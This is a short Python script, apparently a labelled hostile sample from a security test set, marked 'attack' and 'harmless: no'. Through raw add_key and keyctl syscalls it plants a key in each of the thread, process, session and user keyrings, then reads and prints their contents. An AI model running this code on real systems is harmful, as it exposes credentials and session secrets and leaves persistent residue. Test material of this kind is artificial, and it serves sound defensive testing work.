# attack: secrets of the session are read from the kernel's keyrings, and keys are left there
# harmless: no
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
ADD_KEY, KEYCTL, READ = 248, 250, 11
for ring in (-1, -2, -3, -4, -5):
    key = libc.syscall(ADD_KEY, b"user", b"left", b"behind", ctypes.c_size_t(6), ring)
    text = ctypes.create_string_buffer(4096)
    print(ring, key, libc.syscall(KEYCTL, READ, ring, text, 4096), text.value[:100])
